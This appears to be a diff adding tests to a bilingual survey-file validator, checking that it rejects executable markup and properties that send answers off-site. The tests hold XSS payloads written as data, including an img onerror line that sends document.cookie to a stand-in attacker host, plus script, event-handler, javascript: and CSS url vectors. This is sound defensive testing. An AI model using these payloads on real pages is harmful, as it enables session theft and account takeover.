@@ -329,6 +329,71 @@ describe("checkInstrument", () => {
   });
 });
 
+describe("no executable markup (instrument files are content, never script)", () => {
+  const IMG = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
+
+  it("refuses the attack's payload in an html element and in completedHtml, with the path, in both languages", () => {
+    const f = base();
+    f.survey.pages[0].elements.push({ type: "html", name: "intro", html: t(`<p>请如实填写</p>${IMG}`, "<p>Please answer honestly</p>") });
+    f.survey.completedHtml = t("<h3>谢谢</h3>", `<h3>Thanks</h3>${IMG}`);
+    const a = expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[6].html.default", params: { markup: "<img>" } });
+    expect(a.zh).toContain("survey.pages[0].elements[6].html.default：");
+    expect(a.zh).toContain("<img>");
+    expect(a.en).toContain("not allowed");
+    expectProblem(f, "markup_not_allowed", { path: "survey.completedHtml.en", params: { markup: "<img>" } });
+  });
+
+  it("refuses scripts, event attributes, styles, links, frames, comments and other tags anywhere in the file", () => {
+    const cases: [string, string][] = [
+      ["<script>alert(1)</script>", "<script>"],
+      ["<p onclick=\"alert(1)\">x</p>", "onclick"],
+      ["<P OnMouseOver=alert(1)>x</P>", "onmouseover"],
+      ["<svg onload=alert(1)>", "<svg>"],
+      ["<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe>"],
+      ["<a href=\"javascript:alert(1)\">x</a>", "<a>"],
+      ["<style>body{background:url(//evil.example)}</style>", "<style>"],
+      ["<p style=\"background:url(//evil.example)\">x</p>", "style"],
+      ["<span class=\"a\" class=\"b\">x</span>", "class"],
+      ["<!-- x -->", "<!--"],
+      ["<p/onclick=alert(1)>", "onclick"],
+      ["<p class=\"x\"onclick=\"y\">", "onclick"],
+      ["<b", "<b"],
+      ["<math><mi xlink:href=x>", "<math>"],
+    ];
+    for (const [html, markup] of cases) {
+      const f = base();
+      el(f, "q1").title = t(`问题一${html}`, "Question one");
+      expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[0].title.default", params: { markup } });
+    }
+    const f = base();
+    f.indicators[0].name.zh = "<img src=x onerror=alert(1)>";
+    expectProblem(f, "markup_not_allowed", { path: "indicators[0].name.zh" });
+  });
+
+  it("accepts the small set of layout tags with a class, and text that only looks like markup", () => {
+    const f = base();
+    f.survey.completedHtml = t("<h3 class=\"done\">提交成功</h3><p>谢谢<br/>您的参与：<b>匿名</b>、<em>不可追溯</em></p><ul><li>一</li></ul>",
+      "<div><strong>Done</strong><br>Thank you</div>");
+    el(f, "q1").title = t("分数 < 60 或 a<=b 时 3<5", "Below 60 & more");
+    expect(problems(f)).toEqual([]);
+  });
+
+  it("refuses properties that send answers away, navigate, or load from other sites", () => {
+    const f = base();
+    f.survey.navigateToUrl = "https://evil.example/?t={q1}";
+    f.survey.surveyPostId = "abc";
+    el(f, "year").choicesByUrl = { url: "https://evil.example/choices" };
+    f.survey.logo = "https://evil.example/logo.png";
+    expectProblem(f, "property_not_allowed", { path: "survey.navigateToUrl", params: { property: "navigateToUrl" } });
+    expectProblem(f, "property_not_allowed", { path: "survey.surveyPostId" });
+    expectProblem(f, "property_not_allowed", { path: "survey.pages[0].elements[4].choicesByUrl" });
+    expectProblem(f, "property_not_allowed", { path: "survey.logo" });
+    const ok = base();
+    ok.survey.logo = "data:image/png;base64,iVBORw0KGgo=";
+    expect(problems(ok).filter((p) => p.code === "property_not_allowed")).toEqual([]);
+  });
+});
+
 describe("describeProblem", () => {
   it("has a Chinese and an English text for every code", () => {
     for (const code of PROBLEM_CODES) {
